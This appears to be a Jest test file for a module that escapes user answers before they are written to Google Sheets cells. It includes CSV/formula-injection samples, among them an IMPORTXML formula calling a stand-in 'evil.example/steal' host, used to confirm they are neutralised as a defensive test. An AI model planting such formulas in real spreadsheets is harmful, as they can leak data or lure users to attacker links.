import { cellHoldsText, escapeAsText, escapeForCell, unescapeCell } from '../../src/core/escape';

describe('escapeForCell', () => {
  it.each([
    '=HYPERLINK("http://evil.example","click")',
    '=IMPORTXML("https://evil.example/steal","//a")',
    '+1',
    '-2',
    '-x',
    '@me',
    '\t=1+1',
    '\r=1+1',
    ' =SUM(A1)',
    '\n=1+1',
    '\u00a0=1+1',
    '  +1',
  ])('keeps %j as literal text by prefixing an apostrophe', (answer) => {
    expect(escapeForCell(answer)).toBe(`'${answer}`);
  });

  it("doubles a person's own leading apostrophe so Sheets does not swallow it", () => {
    expect(escapeForCell("'tis the season")).toBe("''tis the season");
    // The apostrophe trick: "'=1+1" would be stored as "=1+1" if written as it is.
    expect(escapeForCell("'=1+1")).toBe("''=1+1");
  });

  it.each(['More time for the protocol', 'a = b later in the sentence', '', '5 stars'])(
    'leaves %j as written',
    (answer) => {
      expect(escapeForCell(answer)).toBe(answer);
    },
  );

  it('passes numbers, booleans, dates and blanks through untouched', () => {
    const date = new Date('2026-09-01T00:00:00Z');
    expect(escapeForCell(-2)).toBe(-2);
    expect(escapeForCell(true)).toBe(true);
    expect(escapeForCell(date)).toBe(date);
    expect(escapeForCell(undefined)).toBeUndefined();
  });
});

describe('escapeAsText', () => {
  it.each(['=IMPORTXML("x","//a")', '+1', '-x', '@x', '\t=1', "'tis", ' =SUM(A1)'])(
    'escapes %j exactly as escapeForCell does',
    (text) => {
      expect(escapeAsText(text)).toBe(escapeForCell(text));
    },
  );

  it.each(['2026-10-06', '10/6/2026', '1,234', '50%', 'TRUE', '15:30', 'We agreed on a rubric row.'])(
    'keeps %j as the words typed (Sheets would turn most of these into a date, number, time or TRUE)',
    (text) => {
      expect(escapeAsText(text)).toBe(`'${text}`);
    },
  );

  it('leaves an empty cell empty', () => {
    expect(escapeAsText('')).toBe('');
  });
});

describe('reading back what was written', () => {
  const sheetsStores = (written: string) => (written.startsWith("'") ? written.slice(1) : written);

  it.each(['=IMPORTXML("x","//a")', '+1', "'=1+1", "'tis", 'plain words', ' =SUM(A1)'])(
    'recognises %j in the cell, whether Sheets took the apostrophe or a plain-text cell kept it',
    (text) => {
      for (const written of [escapeForCell(text), escapeAsText(text)]) {
        expect(cellHoldsText(sheetsStores(written), text)).toBe(true);
        expect(cellHoldsText(written, text)).toBe(true);
      }
    },
  );

  it('takes the escape apostrophe off only where escapeForCell put one', () => {
    expect(unescapeCell("'=1+1")).toBe('=1+1');
    expect(unescapeCell("''tis")).toBe("'tis");
    expect(unescapeCell("'tis")).toBe("'tis");
    expect(unescapeCell('=1+1')).toBe('=1+1');
  });

  it('tells different text apart', () => {
    expect(cellHoldsText('=1+2', '=1+1')).toBe(false);
    expect(cellHoldsText('', 'x')).toBe(false);
    expect(cellHoldsText(undefined, '')).toBe(true);
  });
});
